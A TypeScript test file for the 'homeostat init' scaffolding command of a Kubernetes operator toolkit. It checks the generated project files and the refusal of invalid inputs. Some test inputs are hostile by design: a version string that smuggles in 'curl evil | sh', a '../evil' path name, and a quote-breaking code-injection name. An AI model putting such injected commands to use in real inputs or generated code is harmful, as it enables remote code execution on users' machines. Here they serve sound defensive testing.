/**
 * `homeostat init`: the files a new operator project gets (the sample's imports pointed at the public
 * entry points, its CRD generated from the same code, the homeostat dependency), and what it refuses —
 * existing files, paths that are not folders, names npm or Kubernetes would refuse, missing tarballs —
 * before writing anything. The project itself is installed, built and tested by
 * test/integration/scaffold.test.ts.
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { checkProjectName, rewriteImports, scaffold, ScaffoldError } from '../../cli/init';
import { operatorCrds, renderCrdYaml } from '../../reconcilers';
import templateOperator from '../../templates/tenant-operator/src/operator';

const version = (JSON.parse(readFileSync(join(__dirname, '../../package.json'), 'utf8')) as { version: string })
  .version;
let root: string;
const lines: string[] = [];
const log = (line: string): void => {
  lines.push(line);
};

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'homeostat-scaffold-'));
  lines.length = 0;
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const read = (dir: string, file: string): string => readFileSync(join(dir, file), 'utf8');

describe('homeostat init', () => {
  it('given a new folder, it writes the project: sample sources importing only homeostat’s public entries, its CRD, package.json, tsconfig, lint, README', async () => {
    const dir = join(root, 'platform-tenants');
    const result = await scaffold({ dir, log });
    expect(result.name).toBe('platform-tenants');
    expect(result.files).toEqual([
      '.gitignore',
      'README.md',
      'deploy/crds/kustomization.yaml',
      'deploy/crds/tenants.platform.example.com.yaml',
      'eslint.config.mjs',
      'examples/tenant.yaml',
      'package.json',
      'src/operator.ts',
      'src/tenant.test.ts',
      'src/tenant.ts',
      'tsconfig.json',
    ]);
    for (const file of result.files.filter((f) => f.endsWith('.ts'))) {
      const source = read(dir, file);
      expect(source).not.toMatch(/from '\.\.\//); // nothing reaches outside the project
    }
    expect(read(dir, 'src/tenant.ts')).toContain("from 'homeostat';");
    expect(read(dir, 'src/tenant.test.ts')).toContain("from 'homeostat/testing';");
    expect(read(dir, 'src/operator.ts')).toContain(
      "defineOperator({ name: 'platform-tenants', reconcilers: [tenant] })",
    );
    // The CRD is the one `homeostat crds` generates from the same reconciler.
    expect(read(dir, 'deploy/crds/tenants.platform.example.com.yaml')).toBe(
      renderCrdYaml(operatorCrds(templateOperator)['tenants.platform.example.com.yaml']!),
    );
    const pkg = JSON.parse(read(dir, 'package.json')) as {
      name: string;
      scripts: Record<string, string>;
      dependencies: Record<string, string>;
      devDependencies: Record<string, string>;
    };
    expect(pkg.name).toBe('platform-tenants');
    expect(pkg.dependencies.homeostat).toBe(`^${version}`);
    expect(Object.keys(pkg.dependencies).sort()).toEqual(['@kubernetes/client-node', 'homeostat', 'zod']);
    expect(pkg.scripts.demo).toBe('homeostat dev --operator dist/operator.js --examples examples');
    expect(pkg.scripts.test).toBe('node --test dist/*.test.js');
    expect(pkg.scripts.crds).toBe('homeostat crds --operator dist/operator.js --out-dir deploy/crds');
    expect(read(dir, 'README.md')).toMatch(/npm run demo[\s\S]*npm test/);
    expect(lines.join('\n')).toMatch(/npm install/);
  });

  it('given a tarball, the project depends on it by absolute path; given a missing one, it refuses', async () => {
    const tarball = join(root, 'homeostat-0.1.0.tgz');
    writeFileSync(tarball, 'not really a tarball');
    const dir = join(root, 'with-tarball');
    await scaffold({ dir, log, homeostat: tarball });
    expect(
      (JSON.parse(read(dir, 'package.json')) as { dependencies: { homeostat: string } }).dependencies.homeostat,
    ).toBe(`file:${tarball}`);
    await expect(scaffold({ dir: join(root, 'other'), log, homeostat: join(root, 'missing.tgz') })).rejects.toThrow(
      /tarball .*missing\.tgz does not exist/,
    );
    await expect(scaffold({ dir: join(root, 'other'), log, homeostat: '1.0.0; curl evil | sh' })).rejects.toThrow(
      /neither a version range nor a tarball path/,
    );
    expect(readdirSync(root).sort()).toEqual(['homeostat-0.1.0.tgz', 'with-tarball']);
  });

  it('given an empty folder, or one holding only .git, it writes into it', async () => {
    const dir = join(root, 'empty');
    mkdirSync(join(dir, '.git'), { recursive: true });
    await scaffold({ dir, log });
    expect(readdirSync(dir)).toContain('package.json');
  });

  it('given a folder that is not empty, it refuses and writes nothing', async () => {
    const dir = join(root, 'busy');
    mkdirSync(dir);
    writeFileSync(join(dir, 'package.json'), '{"name":"mine"}');
    await expect(scaffold({ dir, log })).rejects.toThrow(
      /refusing to scaffold into .*busy: it is not empty \(package\.json\)/,
    );
    expect(readdirSync(dir)).toEqual(['package.json']);
    expect(read(dir, 'package.json')).toBe('{"name":"mine"}');
  });

  it('given `..` or a link that leads to a folder that is not empty, it refuses', async () => {
    mkdirSync(join(root, 'sub'));
    await expect(scaffold({ dir: join(root, 'sub', '..'), log, name: 'x' })).rejects.toThrow(/not empty \(sub\)/);
    symlinkSync(join(root, 'sub', '..'), join(root, 'link'));
    await expect(scaffold({ dir: join(root, 'link'), log, name: 'x' })).rejects.toThrow(/not empty/);
  });

  it('given a file where the folder should be, or a file in the way of its parent, it refuses', async () => {
    writeFileSync(join(root, 'file'), 'x');
    await expect(scaffold({ dir: join(root, 'file'), log, name: 'x' })).rejects.toThrow(/exists and is not a folder/);
    await expect(scaffold({ dir: join(root, 'file', 'below'), log, name: 'x' })).rejects.toThrow(/cannot create/);
    await expect(scaffold({ dir: '  ', log })).rejects.toThrow(/give the folder/);
  });

  it.each([
    ['uppercase and spaces', 'My Operator'],
    ['a path', '../evil'],
    ['dots', 'tenant.operator'],
    ['a leading digit', '1tenant'],
    ['nothing', ''],
    ['64 characters', `a${'b'.repeat(63)}`],
    ['10,000 characters', 'a'.repeat(10_000)],
    ['a quote that would break the generated source', "x'); process.exit(1); ('"],
  ])('given a name with %s, it refuses it', async (_what, name) => {
    await expect(scaffold({ dir: join(root, 'project'), log, name })).rejects.toThrow(ScaffoldError);
    await expect(scaffold({ dir: join(root, 'project'), log, name })).rejects.toThrow(/invalid project name/);
    expect(readdirSync(root)).toEqual([]);
  });

  it.each(['homeostat', 'zod'])('given the name %s (a dependency of the project), it refuses it', (name) => {
    expect(() => checkProjectName(name, ['homeostat', 'zod'])).toThrow(/depends on a package of that name/);
  });

  it('given a folder whose name is not a valid project name and no --name, it says to pass --name', async () => {
    await expect(scaffold({ dir: join(root, 'My_Project'), log })).rejects.toThrow(/pass --name/);
    await scaffold({ dir: join(root, 'My_Project'), log, name: 'my-project' });
    expect(readdirSync(join(root, 'My_Project'))).toContain('package.json');
  });

  it('given a template import of a folder that is not a public entry, it fails instead of copying it', () => {
    expect(rewriteImports("import { x } from '../../../reconcilers';", 'a.ts')).toBe("import { x } from 'homeostat';");
    expect(() => rewriteImports("import { x } from '../../../activities/kubernetes';", 'a.ts')).toThrow(
      /not a public entry point/,
    );
  });

  it('given the CLI and a folder that is not empty, it exits 1 with the reason', () => {
    mkdirSync(join(root, 'busy'));
    writeFileSync(join(root, 'busy', 'README.md'), '');
    const result = spawnSync(
      process.execPath,
      ['--import', 'tsx', join(__dirname, '../../cli/homeostat.ts'), 'init', join(root, 'busy')],
      { encoding: 'utf8', timeout: 60_000 },
    );
    expect(result.status).toBe(1);
    expect(result.stderr).toMatch(/homeostat: refusing to scaffold into .*busy: it is not empty \(README\.md\)/);
  });
});
